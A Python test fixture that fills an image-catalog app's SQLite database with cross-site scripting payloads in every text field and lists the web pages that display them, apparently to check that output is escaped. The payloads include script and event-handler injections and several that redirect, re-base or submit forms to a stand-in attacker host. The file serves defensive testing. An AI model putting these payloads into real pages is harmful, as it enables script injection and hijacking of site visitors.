"""A catalog that means harm: a payload wherever data can bring a text; or plain words there, to compare with."""

import json
import sqlite3
from pathlib import Path
from typing import Any

from PIL import Image

from hotfolder.catalog.schema import migrate
from tests.browse.test_pages import PAYLOADS as FIRST

PLAIN = "plain words"
PAYLOADS = [
    *FIRST,
    "\u202e<svg/onload=alert(13)>\u2066",
    "<!--<script>alert(14)//-->",
    "</script><script>alert(15)</script>",
    "</title></style><script>alert(16)</script>",
    "<a href=javascript:alert(17)>x</a>",
    "<math><mi xlink:href='javascript:alert(18)'>m",
    '" style="background:url(http://evil.example/19)" x="',
    "<base href=//evil.example/20/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/21'>",
    "<form action=//evil.example/22><button>x",
    "<link rel=stylesheet href=//evil.example/23.css>",
    "';alert(24)//\\';alert(24)//",
    "${alert(25)}#{alert(25)}",
    "<template><img src=x onerror=alert(26)></template>",
    "\u2028<img src=x onerror=alert(27)>\x0b",
    "x" * 20_000 + "<script>alert(28)</script>",
]


def fill(root: Path, payloads: list[str]) -> sqlite3.Connection:
    """Make a workspace whose catalog has jobs and pictures with each payload wherever a text stands; returns the
    catalog, open. Pictures are `bad0` and so on; jobs from 1 on are done, from 101 failed, 201 waiting, 301 queued."""
    (root / ".hotfolder" / "thumbs").mkdir(parents=True, mode=0o700, exist_ok=True)
    (root / "outbox").mkdir(exist_ok=True)
    connection = sqlite3.connect(root / "catalog.db")
    connection.execute("pragma journal_mode = wal")
    migrate(connection)
    for number, payload in enumerate(payloads):
        name = "".join(letter for letter in payload if letter not in "/\0")[:60]
        path = f"outbox/{number} {name}.png"
        Image.new("RGB", (48, 32), (number * 9 % 256, 90, 160)).save(root / path)
        files = [{"name": name, "origin": payload, "path": f"done/{payload}"}]
        _put(connection, "drops", id=f"d{number}", hot_folder=payload, name=payload, state="done",
             files=json.dumps(files), created_at="2026-11-20T00:00:00.000Z")  # fmt: skip
        job = {
            "drop_id": f"d{number}", "kind": "generate", "hot_folder": payload, "name": payload, "model": payload,
            "spec": json.dumps({"kind": "generate", "prompt": payload, "tags": [payload], "note": payload}),
            "planned": json.dumps([{"prompt": payload}]), "created_at": "2026-11-20T00:00:00.000Z",
            "source_path": f"done/{payload}",
        }  # fmt: skip
        ended = {"started_at": "2026-11-20T00:00:01.000Z", "finished_at": "2026-11-20T00:00:02.000Z", "run_s": 1.0}
        for first, state, more in (
            (1, "done", ended), (101, "failed", ended | {"error": f"{payload}\n{payload}"}),
            (201, "waiting", {"wait_reason": payload}), (301, "queued", {}),
        ):  # fmt: skip
            _put(connection, "jobs", id=first + number, state=state, position=first + number, **job, **more)
        _put(connection, "images", id=f"bad{number}", job_id=1 + number, path=path, sha256="0" * 64,
             pixel_sha256=f"{number:064}", width=48, height=32, format="png", kind="generate", prompt=payload,
             negative_prompt=payload, caption=payload, tags=payload, seed="7", model=payload, profile=payload,
             loras=json.dumps([{"name": payload, "weight": 1}]), sampler=payload, rating=3, review="keep",
             parent_path=path, hot_folder=payload, created_at=f"2026-11-20T00:00:02.{number:03}Z")  # fmt: skip
        _put(connection, "detections", job_id=1 + number, image_path=path, label=payload, score=0.5, x0=1, y0=1,
             x1=20, y1=20)  # fmt: skip
    connection.commit()
    return connection


def pages(payloads: list[str]) -> list[str]:
    """Return the addresses below /-/hotfolder/ of all pages that show them."""
    numbers = range(len(payloads))
    pairs = [f"compare?id=bad{number}&id=bad{(number + 1) % len(payloads)}" for number in numbers]
    jobs = [f"job/{first + number}" for number in numbers for first in (1, 101, 201, 301)]
    return ["gallery", "queue", *(f"picture/bad{number}" for number in numbers), *pairs, *jobs]


def _put(connection: sqlite3.Connection, table: str, **row: Any) -> None:
    marks = ", ".join(f":{name}" for name in row)
    connection.execute(f"insert into {table} ({', '.join(row)}) values ({marks})", row)
